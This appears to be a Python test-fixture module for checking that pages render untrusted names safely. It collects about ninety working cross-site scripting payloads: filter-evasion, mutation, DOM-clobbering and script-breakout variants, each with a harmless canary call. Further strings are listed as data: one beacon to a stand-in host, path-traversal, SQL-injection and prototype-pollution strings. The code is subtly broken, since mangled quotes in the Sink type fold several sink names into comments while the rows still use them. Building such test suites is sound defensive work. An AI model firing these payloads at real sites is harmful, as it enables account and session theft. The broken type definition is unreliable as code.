"""Names that would rather be programs: what strangers write into open data.

Each has a sink: the careless page in which it fires (``test_injection`` shows that
every one does). ``{id}`` stands for the payload's own number, so that what fired
says which it was: by ``canary(id)``, or by asking for ``/canary/id``.
Sources: the OWASP filter-evasion cheat sheet, PortSwigger's cheat sheet, the test
cases of DOMPurify, html5sec.org; cut to what runs in a Chromium of today.
"""

# ruff: noqa: E501 - a payload stands on one line

from dataclasses import dataclass
from typing import Literal

#: What a careless page does with a text.
Sink = Literal[
    "html",  # innerHTML
    "write",  # document.write: scripts run, too
    "twice",  # innerHTML of what innerHTML gave: mutation
    "inert",  # parsed without scripting, then innerHTML: mutation
    "folded",  # innerHTML of the NFKC form
    "double",  # title="…single",  # title='…'
    "bare",  # title=…
    "title",  # <title>…</title>
    "textarea",  # <textarea>…</textarea>
    "comment",  # <!-- … -->
    "style",  # <style>…</style>
    "css",  # style="…href",  # a link's address
    "frame",  # a frame's address
    "json",  # data in a <script>
    "js double",  # "…" in a script
    "js single",  # '…' in a script
    "js template",  # `…` in a script
    "handler",  # onclick="show('…')clobbered",  # innerHTML, and a script that trusts a global
    "shadow",  # setHTMLUnsafe
    "fragment",  # createContextualFragment
]
Act = Literal["", "click", "hover", "focus"]


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, the sink in which it fires, and what a person must do for it."""

    number: int
    text: str
    sink: Sink
    act: Act


_IMG = "<img src=x onerror=canary({id})>"
_ROWS: tuple[tuple[Sink, Act, str], ...] = (
    # elements whose handlers fire by themselves
    ("html", "", _IMG),
    ("html", "", "<svg onload=canary({id})>"),
    ("html", "", "<IMG SRC=x OnErRoR=canary({id})>"),
    ("html", "", "<img/src='x'/onerror=canary({id})>"),
    ("html", "", "<img\tsrc=x\tonerror\t=\tcanary({id})>"),
    ("html", "", "<img src=x onerror=&#99;&#97;nary({id})>"),
    ("html", "", "<img src=x onerror=\\u0063anary({id})>"),
    ("html", "", "<img src=x onerror=window['can'+'ary']({id})>"),
    ("html", "", "<img src=x onerror=eval(atob('Y2FuYXJ5'))({id})>"),
    ("html", "", "<img src=x onerror=import('data:text/javascript,canary({id})')>"),
    ("html", "", "<img src=x onerror=[].map.constructor`canary\\x28{id}\\x29```>"),
    ("html", "", "<image href=x src=x onerror=canary({id})>"),
    ("html", "", "<details open ontoggle=canary({id})><summary>x</details>"),
    ("html", "", "<video><source src=x onerror=canary({id})></video>"),
    ("html", "", "<audio src=x onerror=canary({id})></audio>"),
    ("html", "", "<link rel=stylesheet href=data:,x onload=canary({id})>"),
    ("html", "", "<iframe onload=canary({id})></iframe>"),
    ("html", "", "<style onload=canary({id})></style>"),
    ("html", "", "<svg><animate onbegin=canary({id}) attributeName=x dur=1s></svg>"),
    ("html", "", "<svg><style><img src=x onerror=canary({id})></style></svg>"),
    ("html", "", "<svg><image href=x onerror=canary({id})></image></svg>"),
    ("html", "", "<style>@keyframes k{id}{}</style><b style=animation-name:k{id} onanimationstart=canary({id})>x</b>"),
    ("html", "", "<b style=display:block;content-visibility:auto oncontentvisibilityautostatechange=canary({id})>x</b>"),
    ("html", "", "<!--<img src=\"--><img src=x onerror=canary({id})//\">"),
    ("html", "", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */)//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=canary({id})//>"),
    # elements that wait for a person
    ("html", "focus", "<input onfocus=canary({id})>"),
    ("html", "hover", "<b onmouseover=canary({id})>公厕</b>"),
    ("html", "hover", "<b onpointerenter=canary({id})>公厕</b>"),
    ("html", "click", "<a href=javascript:canary({id})>公厕</a>"),
    ("html", "click", "<a href=jav&#x0A;ascript&colon;canary({id})>公厕</a>"),
    ("html", "click", "<form action=javascript:canary({id})><button>公厕</button></form>"),
    ("html", "click", "<form><button formaction=javascript:canary({id})>公厕</button></form>"),
    ("html", "click", "<svg><a xlink:href=javascript:canary({id})><text y=20>x</text></a></svg>"),
    ("html", "click", "<button popovertarget=p{id}>x</button><i id=p{id} popover onbeforetoggle=canary({id})>x</i>"),
    # frames and what they hold
    ("html", "", "<iframe srcdoc='<script>parent.canary({id})</script>'></iframe>"),
    ("html", "", "<iframe src=javascript:parent.canary({id})></iframe>"),
    ("html", "", "<iframe src=/canary/{id}></iframe>"),
    ("frame", "", "javascript:parent.canary({id})"),
    ("frame", "", "data:text/html,<img src='http://control.invalid/canary/{id}'>"),
    # what asks elsewhere, without a script
    ("html", "", "<img src=/canary/{id}>"),
    ("html", "", "<img srcset=/canary/{id}>"),
    ("html", "", "<video poster=/canary/{id}></video>"),
    ("html", "", "<object data=/canary/{id}></object>"),
    ("html", "", "<input type=image src=/canary/{id}>"),
    ("html", "", "<link rel=stylesheet href=/canary/{id}>"),
    ("html", "", "<style>@import '/canary/{id}';</style>"),
    ("html", "", "<b style='background:url(/canary/{id})'>x</b>"),
    ("html", "", "<base href=/canary/{id}/><img src=x>"),
    ("write", "", "<meta http-equiv=refresh content='1;url=/canary/{id}'>"),
    ("css", "", "red;background:url(/canary/{id})"),
    ("style", "", "x{}}*{background:url(/canary/{id})}"),
    # scripts, and data that becomes one
    ("write", "", "<script>canary({id})</script>"),
    ("write", "", "<ScRiPt >canary({id})</sCrIpT >"),
    ("write", "", "<svg><script>canary({id})</script></svg>"),
    ("write", "", "<body onload=canary({id})>"),
    ("fragment", "", "<script>canary({id})</script>"),
    ("shadow", "", "<div><template shadowrootmode=open><img src=x onerror=canary({id})></template></div>"),
    ("json", "", "</script><script>canary({id})</script>"),
    ("json", "", "</ScRiPt ><svg onload=canary({id})>"),
    ("js double", "", '";canary({id});//'),
    ("js single", "", "';canary({id});//"),
    ("js single", "", "'-canary({id})-'"),
    ("js template", "", "${canary({id})}"),
    ("js template", "", "`;canary({id});//"),
    ("handler", "click", "');canary({id});//"),
    ("handler", "click", "&#39;);canary({id});//"),
    # out of attributes and of elements that hold text
    ("double", "", '"><img src=x onerror=canary({id})>'),
    ("double", "hover", '" onmouseover="canary({id})'),
    ("double", "focus", '" tabindex=0 onfocus="canary({id})'),
    ("single", "", "'><svg onload=canary({id})>"),
    ("single", "hover", "' onpointerover='canary({id})"),
    ("bare", "hover", "x onmouseover=canary({id})"),
    ("title", "", "</title><img src=x onerror=canary({id})>"),
    ("textarea", "", "</textarea><img src=x onerror=canary({id})>"),
    ("comment", "", "--><img src=x onerror=canary({id})>"),
    ("style", "", "</style><img src=x onerror=canary({id})>"),
    # addresses
    ("href", "click", "javascript:canary({id})"),
    ("href", "click", "JaVaScRiPt:canary({id})"),
    ("href", "click", "java\tscript:canary({id})"),
    ("href", "click", "\u0001javascript:canary({id})"),
    ("href", "click", "javascript://公厕.cn/%0Acanary({id})"),
    # mutation: what is harmless until it is read again
    ("twice", "", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary({id})>"),
    ("inert", "", "公厕<noscript><style></noscript><img src=x onerror=canary({id})>"),
    ("inert", "", "公厕<noscript><xmp></noscript><svg onload=canary({id})></xmp>"),
    ("folded", "", "＜img src=x onerror=canary（{id}）＞"),
    # letters that are not what they seem
    ("html", "", "\u202e<img src=x onerror=canary({id})>\u202c"),
    ("html", "", "公厕\u200b<img src=x onerror=canary({id})>"),
    ("html", "", "泉城\u2028<svg onload=canary({id})>"),
    # globals with new owners
    ("clobbered", "", "<a id=config></a><a id=config name=url href=/canary/{id}>x</a>"),
    ("clobbered", "", "<form id=config><input name=url value=/canary/{id}></form>"),
)  # fmt: skip

PAYLOADS = tuple(
    Payload(number, text.replace("{id}", str(number)), sink, act)
    for number, (sink, act, text) in enumerate(_ROWS, 1)
)
#: Not by themselves programs; as keys and ids they have undone others.
UNLUCKY = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "body", "map",
    "%", "%00", "../../etc/passwd", "{z}", "$&", "\\", "'; drop table toilets; --",
)  # fmt: skip
